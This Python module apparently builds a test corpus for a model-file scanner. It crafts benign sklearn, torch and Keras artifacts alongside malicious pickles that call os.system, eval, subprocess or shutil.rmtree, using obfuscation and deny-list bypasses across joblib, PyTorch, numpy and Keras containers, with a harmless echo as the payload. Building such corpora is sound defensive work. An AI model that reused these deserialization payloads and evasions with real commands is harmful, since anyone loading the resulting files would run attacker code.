"""A corpus of benign and malicious model artifacts for the unsafe-artifact scanner.

Malicious files carry the payloads real attacks use (``os.system`` through
``REDUCE``, ``STACK_GLOBAL`` names fetched from the memo, ``getattr`` /
``__import__`` chains, ``eval`` / ``exec``, and globals that deny-lists have
missed: ``timeit.timeit``, ``pydoc.pipepager``, ``cProfile.run``,
``numpy.testing`` helpers, ``pdb.run``...) inside every container the scanner
reads: raw pickles of protocols 0-5, joblib (compressed too, object arrays),
PyTorch zips, ``.npy``/``.npz`` object arrays, Keras ``Lambda`` layers (``.keras``
and ``.h5``) and concatenated pickles. The command is a harmless ``echo``;
nothing here is ever loaded.

Benign files are what a store really ships: scikit-learn estimators pickled with
every protocol, joblib dumps (plain and compressed), torch ``state_dict`` and
whole ``nn.Module`` saves, safetensors, ``.npz``, skops, JSON and Keras configs
without code.

References
----------
Trail of Bits, "Never a dill moment" (2021); protectai/modelscan issues on
deny-list bypasses; JFrog, "Data scientists targeted by malicious Hugging Face
ML models with silent backdoor" (2024).
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np

__all__ = ["CorpusItem", "build_corpus", "malicious_artifacts"]

_CMD = "echo shopguard-canary"


@dataclass(frozen=True)
class CorpusItem:
    path: Path
    malicious: bool
    family: str
    description: str


# -- raw pickle builders (bytes; nothing is ever unpickled) -------------------------------------


def _s(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _reduce_v2(module: str, name: str, *args: str) -> bytes:
    """Protocol 2: GLOBAL module name, args tuple, REDUCE."""
    body = f"c{module}\n{name}\n".encode() + b"("
    for a in args:
        body += b"X" + struct.pack("<I", len(a.encode())) + a.encode()
    return b"\x80\x02" + body + b"tR."


def _stack_global_memo(module: str, name: str, arg: str) -> bytes:
    """Protocol 4: names memoised first and fetched back for STACK_GLOBAL (defeats naive scans)."""
    return (
        b"\x80\x04"
        + _s("padding")
        + b"\x94"  # memo 0
        + _s(module)
        + b"\x94"  # memo 1
        + _s(name)
        + b"\x94"  # memo 2
        + b"0"  # POP
        + b"0"  # POP
        + b"0"  # POP
        + b"h\x01h\x02"  # BINGET 1, BINGET 2
        + b"\x93"  # STACK_GLOBAL
        + _s(arg)
        + b"\x85R."  # TUPLE1 REDUCE STOP
    )


def _getattr_chain(module: str, attr: str, arg: str) -> bytes:
    """``getattr(__import__(module), attr)(arg)`` (protocol 2)."""
    return (
        b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(X"
        + struct.pack("<I", len(module))
        + module.encode()
        + b"tRX"
        + struct.pack("<I", len(attr))
        + attr.encode()
        + b"tR(X"
        + struct.pack("<I", len(arg))
        + arg.encode()
        + b"tR."
    )


def _inst_v0(module: str, name: str, arg: str) -> bytes:
    """Protocol 0 INST opcode."""
    return f"(S'{arg}'\ni{module}\n{name}\n.".encode()


def _obj_v1(module: str, name: str, arg: str) -> bytes:
    """Protocol 1 OBJ opcode."""
    return f"(c{module}\n{name}\nS'{arg}'\no.".encode()


def _ext_code() -> bytes:
    """A global through the copyreg extension registry (EXT1)."""
    return b"\x80\x02\x82\x01(X\x04\x00\x00\x00argstR."


def _nested_loads() -> bytes:
    inner = _reduce_v2("os", "system", _CMD)
    return b"\x80\x02cpickle\nloads\n(C" + bytes([len(inner)]) + inner + b"tR."


def _partial_call() -> bytes:
    """functools.partial(os.system, cmd)() -- the callable is computed."""
    return (
        b"\x80\x02cfunctools\npartial\n(cos\nsystem\nX"
        + struct.pack("<I", len(_CMD))
        + _CMD.encode()
        + b"tR)R."
    )


class _Reduce:
    """Pickles as a call of ``fn(*args)`` (how real payloads are made)."""

    def __init__(self, fn: Callable[..., object], *args: object) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.fn, self.args


def _os_system() -> Callable[..., object]:
    import os

    return os.system


# -- containers ----------------------------------------------------------------------------------


def _torch_zip(pickle_bytes: bytes, *, root: str = "archive") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(f"{root}/data.pkl", pickle_bytes)
        zf.writestr(f"{root}/byteorder", "little")
        zf.writestr(f"{root}/data/0", b"\x00" * 24)
        zf.writestr(f"{root}/version", "3\n")
    return buf.getvalue()


def _keras_zip(config: dict[str, object]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("config.json", json.dumps(config))
        zf.writestr(
            "metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2025-01-01"})
        )
        zf.writestr("model.weights.h5", _h5(None))
    return buf.getvalue()


def _keras_config(*, with_lambda: bool) -> dict[str, object]:
    layers: list[dict[str, object]] = [
        {
            "module": "keras.layers",
            "class_name": "Dense",
            "config": {"name": "dense", "units": 8, "activation": "relu"},
        }
    ]
    if with_lambda:
        layers.append(
            {
                "module": "keras.layers",
                "class_name": "Lambda",
                "config": {
                    "name": "lambda",
                    "function": {
                        "class_name": "__lambda__",
                        "config": {"code": "4wEAAAAAAAAA", "defaults": None, "closure": None},
                    },
                },
            }
        )
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": layers},
    }


def _h5(config: dict[str, object] | None) -> bytes:
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        if config is not None:
            f.attrs["model_config"] = json.dumps(config)
        f.create_dataset("dense/kernel", data=np.zeros((3, 8), dtype=np.float32))
    return buf.getvalue()


def _npy(arr: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=arr.dtype.hasobject)
    return buf.getvalue()


def _npz(**arrays: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.savez(buf, **arrays)  # type: ignore[arg-type]
    return buf.getvalue()


def _joblib(obj: object, *, compress: int = 0) -> bytes:
    import joblib

    buf = io.BytesIO()
    joblib.dump(obj, buf, compress=compress)
    return buf.getvalue()


def _torch_save(obj: object) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


# -- the corpus -----------------------------------------------------------------------------------


def _benign(rng: np.random.Generator) -> list[tuple[str, str, bytes]]:
    import torch
    from safetensors.numpy import save as st_save
    from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    X = rng.random((200, 4))
    y = (X[:, 0] + X[:, 1] > 1).astype(int)
    models = {
        "logreg": LogisticRegression().fit(X, y),
        "hgb": HistGradientBoostingClassifier(max_iter=10, random_state=0).fit(X, y),
        "forest": RandomForestClassifier(n_estimators=5, random_state=0).fit(X, y),
        "pipeline": make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y),
    }
    out: list[tuple[str, str, bytes]] = []
    for name, m in models.items():
        for proto in range(6):
            out.append((f"sk_{name}_p{proto}.pkl", "pickle", pickle.dumps(m, protocol=proto)))
        out.append((f"sk_{name}.joblib", "joblib", _joblib(m)))
        out.append((f"sk_{name}_z.joblib", "joblib", _joblib(m, compress=3)))
    out.append(("arrays.pkl", "pickle", pickle.dumps({"w": rng.random(16), "ids": [1, 2, 3]})))
    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    out.append(("torch_state.pt", "pytorch", _torch_save(net.state_dict())))
    out.append(("torch_module.pt", "pytorch", _torch_save(net)))
    out.append(
        ("weights.safetensors", "safetensors", st_save({"w": rng.random((4, 4)).astype("f4")}))
    )
    out.append(("arrays.npz", "npz", _npz(a=rng.random(10), b=np.arange(5))))
    out.append(("strings.npy", "npy", _npy(np.array(["a", "b"], dtype=object))))
    out.append(("model.keras", "keras", _keras_zip(_keras_config(with_lambda=False))))
    out.append(("model.h5", "hdf5", _h5(_keras_config(with_lambda=False))))
    out.append(("weights_only.h5", "hdf5", _h5(None)))
    out.append(("config.json", "json", json.dumps({"format": "x", "n": 3}).encode()))
    import skops.io as sio

    out.append(("logreg.skops", "skops", sio.dumps(models["logreg"])))
    return out


def malicious_artifacts() -> list[tuple[str, str, bytes]]:
    """``(file name, family, bytes)`` of every malicious artifact (no torch needed)."""
    return _malicious()


def _malicious() -> list[tuple[str, str, bytes]]:
    osys = _os_system()
    out: list[tuple[str, str, bytes]] = []
    for proto in range(6):
        out.append(
            (
                f"reduce_os_system_p{proto}.pkl",
                "pickle",
                pickle.dumps(_Reduce(osys, _CMD), protocol=proto),
            )
        )
    for module, name in (
        ("builtins", "eval"),
        ("builtins", "exec"),
        ("subprocess", "getoutput"),
        ("posix", "system"),
        ("runpy", "_run_code"),
        ("webbrowser", "open"),
        ("shutil", "rmtree"),
        ("timeit", "timeit"),
        ("pydoc", "pipepager"),
        ("cProfile", "run"),
        ("profile", "run"),
        ("pdb", "run"),
        ("numpy.testing._private.utils", "runstring"),
        ("code", "interact"),
        ("importlib", "import_module"),
        ("torch.hub", "load"),
        ("venv", "create"),
        ("asyncio.unix_events", "_UnixSubprocessTransport"),
    ):
        out.append((f"global_{module}.{name}.pkl", "pickle", _reduce_v2(module, name, _CMD)))
    out.append(
        ("stack_global_memo.pkl", "pickle-obfuscated", _stack_global_memo("os", "system", _CMD))
    )
    out.append(
        (
            "stack_global_timeit.pkl",
            "pickle-obfuscated",
            _stack_global_memo("timeit", "timeit", _CMD),
        )
    )
    out.append(("getattr_import.pkl", "pickle-obfuscated", _getattr_chain("os", "system", _CMD)))
    out.append(("inst_v0.pkl", "pickle-obfuscated", _inst_v0("os", "system", _CMD)))
    out.append(("obj_v1.pkl", "pickle-obfuscated", _obj_v1("os", "system", _CMD)))
    out.append(("ext_registry.pkl", "pickle-obfuscated", _ext_code()))
    out.append(("nested_loads.pkl", "pickle-obfuscated", _nested_loads()))
    out.append(("partial_call.pkl", "pickle-obfuscated", _partial_call()))
    benign_then_bad = pickle.dumps({"ok": 1}, protocol=4) + pickle.dumps(
        _Reduce(osys, _CMD), protocol=4
    )
    out.append(("concatenated.pkl", "pickle-obfuscated", benign_then_bad))
    out.append(("payload.bin", "pickle-obfuscated", pickle.dumps(_Reduce(osys, _CMD), protocol=2)))
    out.append(
        (
            "joblib_object_array.joblib",
            "joblib",
            _joblib({"a": np.array([_Reduce(osys, _CMD)], dtype=object)}),
        )
    )
    out.append(
        ("joblib_reduce.joblib", "joblib", _joblib({"w": np.arange(4.0), "x": _Reduce(osys, _CMD)}))
    )
    out.append(
        ("joblib_compressed.joblib", "joblib", _joblib({"x": _Reduce(osys, _CMD)}, compress=3))
    )
    out.append(
        ("torch_data_pkl.pt", "pytorch", _torch_zip(pickle.dumps(_Reduce(osys, _CMD), protocol=2)))
    )
    out.append(
        (
            "torch_renamed_root.pt",
            "pytorch",
            _torch_zip(_stack_global_memo("os", "system", _CMD), root="weights_v2"),
        )
    )
    out.append(("object_array.npy", "npy", _npy(np.array([_Reduce(osys, _CMD)], dtype=object))))
    out.append(
        (
            "object_array.npz",
            "npz",
            _npz(w=np.arange(3.0), x=np.array([_Reduce(osys, _CMD)], dtype=object)),
        )
    )
    out.append(("lambda.keras", "keras", _keras_zip(_keras_config(with_lambda=True))))
    out.append(("lambda.h5", "hdf5", _h5(_keras_config(with_lambda=True))))
    return out


def build_corpus(dest: str | Path, *, seed: int = 0) -> list[CorpusItem]:
    """Write the corpus under ``dest/{benign,malicious}/`` and return its index."""
    root = Path(dest)
    items: list[CorpusItem] = []
    rng = np.random.default_rng(seed)
    for malicious, entries in ((False, _benign(rng)), (True, _malicious())):
        folder = root / ("malicious" if malicious else "benign")
        folder.mkdir(parents=True, exist_ok=True)
        for name, family, data in entries:
            path = folder / name
            path.write_bytes(data)
            items.append(CorpusItem(path, malicious, family, name))
    return items
